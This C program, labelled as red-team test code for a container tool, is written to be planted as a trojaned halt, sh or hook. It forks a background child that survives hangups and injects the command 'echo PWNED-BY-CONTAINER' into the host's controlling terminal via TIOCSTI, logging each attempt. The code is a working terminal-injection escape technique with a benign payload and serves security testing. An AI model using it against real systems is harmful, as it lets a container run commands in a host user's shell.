/* Red team: a program the container's root plants (a trojaned halt, sh, or a program run
 * by `ctl ct exec`), or a hook the container's user writes. It returns at once and, from
 * a background child that stays in the caller's session, tries to type a command into
 * the controlling terminal with TIOCSTI a little later (after `ctl` returned), and into
 * any terminal among its stdio. Everything it tried goes to RESULT, one line each.
 *
 * usage: inject [DELAY_MS [RESULT]]   (defaults: 0 /inject.result; any argv[0])
 *
 * With DELAY_MS 0 (a trojaned halt or sh, called with no number) it returns only once the
 * child wrote RESULT: the caller (Stop) goes on to halt the container, whose init kills
 * every process, and a child not yet scheduled would leave no result at all.
 */
#include <sys/wait.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <termios.h>
#include <unistd.h>

static const char payload[] = "echo PWNED-BY-CONTAINER\n";

static void try_inject(FILE *out, int fd, const char *what) {
    if (!isatty(fd)) {
        fprintf(out, "%s: not a terminal\n", what);
        return;
    }
    for (const char *p = payload; *p; p++) {
        if (ioctl(fd, TIOCSTI, p) != 0) {
            fprintf(out, "%s: TIOCSTI failed: %s\n", what, strerror(errno));
            return;
        }
    }
    fprintf(out, "%s: INJECTED\n", what);
}

int main(int argc, char **argv) {
    int delay = argc > 1 ? atoi(argv[1]) : 0;
    const char *result = argc > 2 ? argv[2] : "/inject.result";
    pid_t pid = fork();
    if (pid < 0)
        return 1;
    if (pid != 0) {
        if (delay == 0)
            waitpid(pid, NULL, 0);
        return 0;
    }
    /* Survive the end of the caller's session on a terminal. */
    signal(SIGHUP, SIG_IGN);
    signal(SIGTERM, SIG_IGN);
    usleep((useconds_t)delay * 1000);
    FILE *out = fopen(result, "w");
    if (!out)
        return 1;
    setvbuf(out, NULL, _IONBF, 0);
    fprintf(out, "started\n");
    int tty = open("/dev/tty", O_RDWR | O_NOCTTY);
    if (tty < 0) {
        fprintf(out, "/dev/tty: open failed: %s\n", strerror(errno));
    } else {
        try_inject(out, tty, "/dev/tty");
        close(tty);
    }
    try_inject(out, 0, "stdin");
    try_inject(out, 1, "stdout");
    try_inject(out, 2, "stderr");
    fprintf(out, "done\n");
    fclose(out);
    return 0;
}
